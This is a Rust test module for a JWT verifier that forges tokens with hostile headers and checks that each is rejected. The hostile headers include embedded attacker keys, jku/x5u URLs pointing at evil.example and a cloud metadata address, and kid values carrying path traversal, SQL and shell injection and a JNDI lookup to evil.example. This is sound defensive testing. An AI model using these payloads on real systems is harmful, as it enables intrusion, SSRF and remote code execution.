//! RFC 8725 §2.9, §3.10: what the header says is not known to be true, and it says where the key is.

use deputize_token::{Algorithm, VerifyError, jws::encode};
use jsonwebtoken::signature::Signer;
use serde_json::{Value, json};

use super::{Attacks, attacker, input, sealed, sign, taken, with, without};
use crate::support::test_key;

pub(super) fn attacks(all: &mut Attacks) {
    let unknown = VerifyError::UnknownHeader;
    all.tokens("the key itself in `jwk`", "RFC 7515 §4.1.3; CVE-2018-0114, -2026-27962", unknown, embedded());
    all.tokens("`jku` and `x5u`", "RFC 8725 §2.9, §3.10", unknown, fetched());
    all.tokens("a certificate in `x5c`, `x5t`", "RFC 7515 §4.1.6 to §4.1.8", unknown, certificates());
    all.tokens("`kid` as a path, a query, a command", "RFC 8725 §2.9, §3.10", VerifyError::UnknownKey, kids());
    all.tokens("`kid` that is no text", "RFC 7515 §4.1.4", VerifyError::InvalidHeader, kid_types());
    let source = "RFC 7515 §4.1.11; CVE-2025-59420, -2026-32597";
    all.tokens("`crit`, whatever it names", source, unknown, critical());
    all.tokens("`b64` and a payload that is not encoded", "RFC 7797 §6, §7", unknown, unencoded());
    all.tokens(
        "names that a reader without case takes for ours",
        "Trail of Bits 2025, parsers in Go",
        unknown,
        cases(),
    );
    all.vectors(
        "a key of another issuer by the same `kid`",
        "RFC 8725 §2.7",
        VerifyError::BadSignature,
        &["kid_of_another_issuer", "key_of_another_issuer", "signed_by_another_key"],
    );
    all.vectors("no `typ`", "RFC 8725 §3.11; RFC 9068 §4", VerifyError::WrongType, &["typ_missing"]);
    all.vectors(
        "a JWT of another kind by the same key",
        "RFC 8725 §2.8, §3.12",
        VerifyError::WrongType,
        &["id_token", "jwt_svid", "typ_dpop", "typ_logout", "typ_client_assertion", "typ_with_prefix_twice"],
    );
}

/// Rightly signed, so that nothing but the header is to blame.
fn own(header: &Value) -> String {
    let token = taken(Algorithm::EdDsa);
    sign(&test_key(Algorithm::EdDsa), &header.to_string(), &token.claims.to_string())
}

/// By the attacker, with claims of their choice.
fn forged(header: &Value) -> String {
    let claims = with(taken(Algorithm::EdDsa).claims, "sub", "root");
    sign(&attacker(), &header.to_string(), &claims.to_string())
}

fn header() -> Value {
    taken(Algorithm::EdDsa).header
}

fn embedded() -> Vec<String> {
    let (mine, theirs) = (attacker().public().to_jwk(), test_key(Algorithm::EdDsa).public().to_jwk());
    let own_kid = with(header(), "kid", attacker().public().kid());
    let kid_in_both = with(with(header(), "jwk", mine.clone()), "kid", mine["kid"].clone());
    vec![
        forged(&with(header(), "jwk", mine.clone())),
        forged(&kid_in_both),
        forged(&without(with(header(), "jwk", mine.clone()), "kid")),
        forged(&with(header(), "jwk", with(mine.clone(), "kid", header()["kid"].clone()))),
        forged(&with(own_kid, "jwk", json!([mine]))),
        forged(&with(header(), "jwks", json!({"keys": [mine]}))),
        forged(&with(header(), "jwk", json!({"kty": "oct", "k": ""}))),
        own(&with(header(), "jwk", theirs)),
        own(&with(header(), "jwk", Value::Null)),
    ]
}

fn fetched() -> Vec<String> {
    let urls = [
        "https://evil.example/keys",
        "https://id.example@evil.example/keys",
        "https://id.example.evil.example/keys",
        "https://id.example/redirect?to=https://evil.example/keys",
        "https://id.example/acme/../../uploads/keys",
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:1/",
        "file:///dev/null",
        "gopher://localhost:1/_",
        "data:application/json,{\"keys\":[]}",
        "//evil.example/keys",
        "",
    ];
    let named = |name: &'static str| urls.iter().map(move |url| with(header(), name, *url));
    named("jku").chain(named("x5u")).flat_map(|header| [forged(&header), own(&header)]).collect()
}

fn certificates() -> Vec<String> {
    let members = [
        ("x5c", json!([encode(&[0x30, 0])])),
        ("x5c", json!([])),
        ("x5c", json!("MIIB")),
        ("x5t", json!(encode(&[0; 20]))),
        ("x5t#S256", json!(encode(&[0; 32]))),
    ];
    members.into_iter().flat_map(|(name, value)| [with(header(), name, value)]).map(|header| forged(&header)).collect()
}

fn kids() -> Vec<String> {
    let good = header()["kid"].as_str().unwrap().to_owned();
    let long = "k".repeat(8_000);
    let kids = [
        "",
        "../../../../../../dev/null",
        "/dev/null",
        "..\\..\\..\\windows\\win.ini",
        "file:///proc/sys/kernel/randomize_va_space",
        "https://evil.example/key",
        "' UNION SELECT 'secret' -- ",
        "' OR '1'='1",
        "1; DROP TABLE keys",
        "\"; ls /; \"",
        "| sleep 10",
        "$(id)",
        "`id`",
        "*)(kid=*",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "__proto__",
        "constructor",
        "*",
        "%00",
        "\0",
        "\r\nX-Key: 1",
        &long,
    ];
    let near = [
        format!("{good}\0"),
        format!("{good}\n"),
        format!(" {good}"),
        format!("{good} "),
        format!("./{good}"),
        format!("{good}%00.pem"),
        good.to_uppercase(),
        good[..good.len() - 1].to_owned(),
        format!("{good}{good}"),
    ];
    let all = kids.into_iter().map(str::to_owned).chain(near);
    all.map(|kid| with(header(), "kid", kid)).flat_map(|header| [forged(&header), own(&header)]).collect()
}

fn kid_types() -> Vec<String> {
    let good = header()["kid"].clone();
    let kids =
        [json!(null), json!(0), json!(true), json!([good]), json!({"$ne": ""}), json!({"$eq": good}), json!(1.5)];
    let mut tokens: Vec<String> = kids.into_iter().map(|kid| own(&with(header(), "kid", kid))).collect();
    tokens.push(own(&without(header(), "kid")));
    tokens
}

fn critical() -> Vec<String> {
    let values = [
        json!([]),
        json!(["exp"]),
        json!(["alg"]),
        json!(["kid", "typ"]),
        json!(["b64"]),
        json!(["jwk"]),
        json!(["exp", "exp"]),
        json!(["x"]),
        json!([""]),
        json!([1]),
        json!("exp"),
        json!(null),
        json!({"exp": true}),
    ];
    let mut tokens: Vec<String> = values.iter().map(|value| own(&with(header(), "crit", value.clone()))).collect();
    tokens.push(own(&with(with(header(), "crit", json!(["x"])), "x", 1)));
    tokens.push(own(&with(with(header(), "crit", json!(["exp"])), "exp", 9_999_999_999_u64)));
    tokens
}

fn unencoded() -> Vec<String> {
    let (key, token) = (test_key(Algorithm::EdDsa), taken(Algorithm::EdDsa));
    let headers = [
        with(with(header(), "crit", json!(["b64"])), "b64", false),
        with(header(), "b64", false),
        with(with(header(), "crit", json!(["b64"])), "b64", true),
        with(header(), "b64", "false"),
    ];
    let raw = |header: &Value| {
        let input = format!("{}.{}", encode(header.to_string().as_bytes()), token.claims);
        sealed(&input, &key.try_sign(input.as_bytes()).unwrap())
    };
    // Signed over the text as it is, signed over its encoding, and detached.
    let detached = |header: &Value| {
        let whole = input(&header.to_string(), &token.claims.to_string());
        let signature = key.try_sign(whole.as_bytes()).unwrap();
        sealed(&format!("{}.", encode(header.to_string().as_bytes())), &signature)
    };
    headers.iter().flat_map(|header| [raw(header), own(header), detached(header)]).collect()
}

fn cases() -> Vec<String> {
    let names = [("ALG", json!("none")), ("Alg", json!("EdDSA")), ("Kid", json!("a")), ("TYP", json!("JWT"))];
    let more = [("kıd", json!("a")), ("alg ", json!("none")), ("\u{feff}alg", json!("none")), ("al\0g", json!("none"))];
    names.into_iter().chain(more).map(|(name, value)| own(&with(header(), name, value))).collect()
}
